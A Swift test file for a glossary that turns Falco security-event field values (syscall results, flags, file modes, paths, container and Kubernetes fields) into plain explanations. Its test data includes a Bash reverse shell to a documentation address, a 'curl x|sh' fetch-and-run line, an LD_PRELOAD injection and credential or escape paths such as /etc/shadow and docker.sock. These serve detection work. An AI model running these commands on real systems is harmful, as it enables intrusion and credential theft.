import Escaping
import Knowledge
import Testing

/// What single values are said to mean.
@Suite struct ValueMeaningTests {
    static let glossary = KnowledgeBase().glossary

    func meaning(_ key: String, _ value: String, _ others: [String: String] = [:]) -> String {
        Self.glossary.meaning(of: key, value: value) { others[$0] }.raw
    }

    /// Field, value, other fields (`a=b`, between spaces), a part of what is said.
    @Test(arguments: [
        ("evt.type", "execve", "", "A process starts a program."),
        ("evt.type", "dup2", "", "redirected"),
        ("evt.type", "unheard_of", "", "The kind of event."),
        ("evt.res", "SUCCESS", "", "The call succeeded."),
        ("evt.res", "EACCES", "", "permission denied. The attempt counts, but it had no effect."),
        ("evt.res", "EINPROGRESS", "", "still being made"),
        ("evt.res", "EWHATEVER", "", "The call failed."),
        ("evt.arg.res", "-2(ENOENT)", "", "no such file or directory"),
        ("evt.arg.res", "-95", "", "error number 95"),
        ("evt.rawres", "-13", "", "error number 13"),
        ("evt.rawres", "3", "", "The call succeeded."),
        ("evt.failed", "true", "", "The call failed."),
        (
            "evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER", "evt.type=execve user.uid=33",
            "The user who ran the file could also have changed it; it was added or changed after the container started"
        ),
        (
            "evt.arg.flags", "EXE_WRITABLE", "evt.type=execve user.uid=0",
            "may also write to it; for root that is true of nearly every file."
        ),
        ("evt.arg.flags", "EXE_WRITABLE|EXE_FROM_MEMFD", "evt.type=execve", "memory only"),
        ("evt.arg.flags", "0", "evt.type=execve", "The user who ran the file could not change it"),
        (
            "evt.arg.flags", "O_TRUNC|O_CREAT|O_WRONLY|FD_UPPER_LAYER", "evt.type=openat",
            "Emptied; created if it was not there; opened for writing; in the container's upper layer"
        ),
        (
            "evt.arg.flags", "CLONE_NEWNS|CLONE_NEWPID", "evt.type=setns",
            "Into an existing mount namespace; into an existing process id namespace"
        ),
        ("evt.arg.flags", "CLONE_NEWUSER|CLONE_FILES", "evt.type=unshare", "descriptors no longer shared"),
        ("evt.arg.flags", "MFD_ALLOW_SEALING", "evt.type=memfd_create", "Can be sealed"),
        (
            "evt.arg.flags", "BIND|REC", "evt.type=mount",
            "An existing directory is made visible elsewhere; with all mounts below."
        ),
        ("evt.arg.flags", "MODULE_INIT_IGNORE_VERMAGIC", "evt.type=finit_module", "is not checked"),
        (
            "evt.arg.flags", "O_RDONLY|O_NEW", "evt.type=open",
            "Opened for reading; O_NEW (not explained here)."
        ),
        ("evt.arg.flags", "0", "evt.type=unlinkat", "Removes a file's name"),
        (
            "evt.arg.mode", "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID", "",
            "`rwsr-xr-x` (04755); setuid"
        ),
        ("evt.arg.mode", "S_ISGID|S_IRUSR", "", "`r----S---` (02400)"),
        ("evt.arg.mode", "0777", "", "`rwxrwxrwx` (0777); everybody may write; executable."),
        ("evt.arg.mode", "01777", "", "sticky"),
        ("evt.arg.mode", "0", "", "No permission at all"),
        ("evt.arg.mode", "0999", "", "The permissions that the call sets."),
        ("evt.arg.uid", "root", "user.uid=1000", "asks for root's rights"),
        ("evt.arg.uid", "daemon", "user.uid=0", "gives its rights up"),
        ("evt.arg.cmd", "BPF_PROG_LOAD", "", "Loads an eBPF program"),
        ("evt.arg.request", "PTRACE_TRACEME", "", "asks to be traced"),
        ("evt.args", "fd=3(<o>) domain=17(AF_PACKET) type=3 proto=768", "", "ETH_P_ALL"),
        ("thread.cap_effective", "NONE", "", "No capabilities"),
        (
            "thread.cap_effective", "CAP_CHOWN CAP_SYS_ADMIN CAP_SYS_PTRACE", "",
            "Of 3, these matter most: `CAP_SYS_ADMIN`"
        ),
        ("thread.cap_effective", "CAP_CHOWN CAP_KILL", "", "2 capabilities, none of them"),
        ("proc.tty", "0", "", "No terminal"),
        ("proc.tty", "34816", "", "`/dev/pts/0`"),
        ("proc.tty", "34823", "", "`/dev/pts/7`"),
        ("proc.tty", "1083392", "", "`/dev/pts/256`"),
        ("proc.tty", "1025", "", "`/dev/tty1`"),
        ("proc.tty", "1088", "", "`/dev/ttyS0`"),
        ("proc.pid", "-1", "", "Not known to Falco."),
        ("proc.ppid", "1", "", "The first process"),
        ("proc.vpid", "1", "container.id=0123456789ab", "when it ends, the container ends"),
        ("proc.vpid", "77", "container.id=0123456789ab proc.pid=77", "shares the host's process ids"),
        (
            "proc.name", "averyverylongna", "proc.exepath=/usr/bin/averyverylongname",
            "15 bytes, the kernel's limit"
        ),
        ("proc.name", "deploy.sh", "proc.exepath=/usr/bin/bash", "Runs in bash"),
        ("proc.name", "sshd", "proc.exepath=/tmp/x", "The file that runs is called x"),
        ("proc.exepath", "memfd:x", "", "memory only"),
        ("proc.exepath", "/tmp/.x/run", "", "every user can write to, in a hidden place"),
        ("proc.exepath", "/opt/.hidden/run", "", "hidden place"),
        ("proc.exepath", "/opt/.../run", "", "hidden place"),
        ("proc.exepath", "/dev/shm/..run", "", "every user can write to, in a hidden place"),
        ("proc.exepath", "/usr/bin/id", "", "The distribution's programs."),
        ("proc.exepath", "/x (deleted)", "", "Deleted since it was started"),
        ("proc.exe", "-bash", "", "login shell"),
        ("proc.exe", "[kworker/0:1]", "proc.exepath=/tmp/x", "Not the name of the file that runs, /tmp/x"),
        ("proc.cmdline", "sh -c curl x|sh", "", ""),
        (
            "proc.cmdline", "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "",
            "It opens a TCP connection through Bash."
        ),
        ("proc.env", "LD_PRELOAD=/tmp/x.so", "", "`LD_PRELOAD` makes the program load a library"),
        ("proc.aname[2]", "sshd", "", "a remote login"),
        ("proc.pname", "runc", "", "The runtime itself"),
        (
            "proc.exe_ino.ctime_duration_proc_start", "18446744073698630416", "",
            "10.9 ms after the process was made"
        ),
        (
            "proc.exe_ino.ctime_duration_proc_start", "1051883079", "",
            "1.05 s before the process was made: written, then run"
        ),
        (
            "proc.exe_ino.ctime_duration_proc_start", "86400000000000000", "",
            "2.74 years before the process was made."
        ),
        (
            "proc.exe_ino.ctime", "1795376469000000000", "evt.time=1795376470000000000",
            "Last changed 1 s before the event: fresh."
        ),
        ("proc.exe_ino.mtime", "3177593873996558696", "evt.time=1795376470000000000", "still to come"),
        (
            "proc.exe_ino.mtime", "1600000000000000000", "proc.exe_ino.ctime=1795376470000000000",
            "unpacked with its old time"
        ),
        (
            "container.start_ts", "1795372046000000000",
            "evt.time=1795376469000000000 container.id=0123456789ab",
            "2026-11-22 18:27:26 UTC, 73.7 min before the event."
        ),
        ("container.duration", "4446867495278", "", "The container had been running for 74.1 min."),
        ("user.uid", "0", "container.id=host", "Root: no file permission stops it."),
        ("user.uid", "0", "container.id=0123456789ab", "user namespaces"),
        ("user.uid", "4294967295", "", "Not known"),
        ("user.uid", "33", "container.id=host", "a service's account"),
        ("user.uid", "65534", "", "nobody"),
        ("user.loginuid", "-1", "", "No login behind it"),
        ("user.loginuid", "1002", "user.uid=0", "turned into root since"),
        ("user.loginuid", "1002", "user.uid=1002", "Logged in under this user id."),
        ("user.loginuid", "0", "user.uid=0", "Logged in as root directly."),
        ("user.loginuid", "0", "user.uid=33", "The login was root's."),
        ("proc.pid", "0", "", "Not known to Falco."), ("proc.pid", "-1", "", "Not known to Falco."),
        ("proc.vpid", "../x", "", "This is no process id."),
        ("evt.arg.uid", "4294967295", "user.uid=0", "No user id (-1)."),
        ("evt.arg.domain", "17(AF_PACKET)", "", "Raw frames of the network card."),
        ("evt.arg.domain", "2(AF_INET)", "", "The family of the socket."),
        ("evt.arg.type", "1", "", "A stream"), ("evt.arg.type", "524290", "", "Datagrams"),
        ("evt.arg.type", "3", "", "Raw"), ("evt.arg.type", "ext4", "", "The type of the socket."),
        ("fd.sip", "168.63.129.16", "", "Azure's platform address"),
        ("group.gid", "0", "", "Root's group."),
        ("fd.name", "/etc/shadow", "", "The hashes of all local passwords."),
        ("fd.name", "/proc/1234/environ", "", "environment variables that a process started with"),
        ("fd.name", "/proc/self/mem", "", "The memory of a process."),
        ("fd.name", "/proc/abc/environ", "", "What the descriptor stands for"),
        ("fd.name", "/home/bob/.ssh/authorized_keys", "", "may log in as this user"),
        ("fd.name", "/home/bob/.aws/credentials", "", "AWS credentials of a user."),
        ("fd.name", "/home/bob/.config/gcloud/x.db", "", "Google Cloud credentials"),
        ("fd.name", "/root/.ssh/config", "", "Root's SSH keys"),
        ("fd.name", "/etc/cron.d/x", "", "Jobs that cron runs"),
        ("fd.name", "/sys/fs/cgroup/rdma/x/release_agent", "", "a way out of containers"),
        ("fd.name", "/var/run/docker.sock", "", "root on the host"),
        ("fd.name", "/etc/ld.so.preload", "", "user-space rootkits"),
        (
            "fd.name", "10.0.0.5:50000->203.0.113.66:4444", "fd.type=ipv4",
            "set aside for documentation: an example or a lab, port 4444 (Metasploit"
        ),
        (
            "fd.name", "10.0.0.5:50000->8.8.8.8:53", "fd.type=ipv4",
            "The server is a public address on the internet, port 53 (DNS)."
        ),
        ("fd.name", "::1:43106->::1:22", "fd.type=ipv6", "loopback), port 22 (SSH)."),
        (
            "fd.name", "0.0.0.0:31337", "fd.type=ipv4",
            "waits on port 31337, to be reached from every network of this host."
        ),
        ("fd.nameraw", "/etc/../etc/shadow", "", "climbs up with `..`"),
        ("fd.num", "1", "", "Standard output."),
        ("fd.sip", "169.254.169.254", "", "metadata service"),
        ("fd.rip", "10.1.2.3", "", "A private address"),
        ("fd.rip", "not an address", "", "The other side's address."),
        ("fd.rport", "10250", "", "The kubelet"),
        ("fd.rport", "31000", "", "Kubernetes node ports"),
        ("fd.lport", "51234", "", "Picked by the system"),
        ("container.id", "host", "", "No container"),
        ("container.id", "3ad7b26ded6d", "", "`ctr` wants the whole id"),
        ("container.image.repository", "docker.io/library/nginx", "", "official images"),
        ("container.image.repository", "docker.io/bitnami/redis", "", "published by its users"),
        (
            "container.image.repository", "registry.example.test:5000/a/b", "",
            "From the registry registry.example.test:5000."
        ),
        ("container.image.repository", "localhost/web", "", "Built on this host."),
        ("container.image.repository", "web", "", "A name without a registry"),
        ("container.image.tag", "latest", "", "moves with every release"),
        ("container.privileged", "true", "", "Root in it can take the host."),
        (
            "container.mounts", "/:/host::true:rprivate,/data:/data::true:x", "",
            "/ (writable): The host's whole file system."
        ),
        (
            "container.mounts", "/var/run/docker.sock:/d.sock::false:rprivate", "",
            "/var/run/docker.sock (read-only): The Docker daemon's socket"
        ),
        ("container.mounts", "/data:/data::true:rprivate", "", "What is mounted into the container"),
        ("k8s.ns.name", "kube-system", "", "own components"),
        (
            "k8s.pod.name", "storefront-6c9d8b7f4-k2mzp", "",
            "of the deployment storefront: deleted, it is replaced"
        ),
        ("k8s.pod.name", "orders-db-0", "", "the stateful set orders-db"),
        ("k8s.pod.name", "node-agent-x2x9q", "", "daemon set or job node-agent"),
        ("k8s.pod.name", "toolbox", "", "made by hand"),
        ("ka.user.name", "system:anonymous", "", "without credentials"),
        ("ka.user.name", "system:serviceaccount:shop:web", "", "The service account web of namespace shop"),
        ("ka.user.name", "system:node:n1", "", "The kubelet of a node."),
        ("ka.auth.decision", "forbid", "", "refused"),
        ("ka.response.code", "403", "", "may not do this"),
        ("ka.target.subresource", "exec", "", "A command in a running container."),
        ("ka.req.binding.role", "cluster-admin", "", "May do everything"),
        ("n_drops", "0", "", "Nothing was lost."),
        ("n_drops", "17", "", "alerts may be missing"),
        ("proc.stdin.type", "ipv4", "", "reverse shell"),
        ("proc.is_exe_upper_layer", "true", "", "not the image's file"),
        ("evt.rawtime", "1795376492645633121", "", "2026-11-22 19:41:32 UTC."),
        ("evt.time", "12:00:00.000000000", "", ""),
    ])
    func says(key: String, value: String, others: String, part: String) {
        var fields: [String: String] = [:]
        for pair in others.split(separator: " ") {
            let parts = pair.split(separator: "=", maxSplits: 1)
            fields[String(parts[0])] = String(parts[1])
        }
        let said = meaning(key, value, fields)
        #expect(part.isEmpty ? said.isEmpty : said.contains(part), "\(said)")
    }

    @Test func fullAndUsualSetsOfCapabilities() {
        let usual =
            "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP "
            + "CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"
        #expect(
            meaning("thread.cap_effective", usual)
                == "The 14 that container runtimes grant unless told otherwise.")
        let all = (0..<41).map { "CAP_\($0)" }.joined(separator: " ")
        #expect(meaning("thread.cap_effective", all).hasPrefix("All 41 capabilities"))
    }

    @Test func longCommandLinesAreSaidToBeCut() {
        #expect(
            meaning("proc.cmdline", String(repeating: "a", count: 4096))
                == "Cut at 4096 bytes, the rest is not known.")
        #expect(meaning("proc.cmdline", String(repeating: "a", count: 4095)).isEmpty)
    }

    @Test func partsOfTheValueAreMarked() {
        let prose = Self.glossary.meaning(of: "k8s.pod.name", value: "web-7d4b9c6f5d-x2x9q") { _ in nil }
        #expect(prose.values.count == 1)
        let range = prose.values[0]
        #expect(String(decoding: Array(prose.raw.utf8)[range], as: UTF8.self) == "web")
    }
}
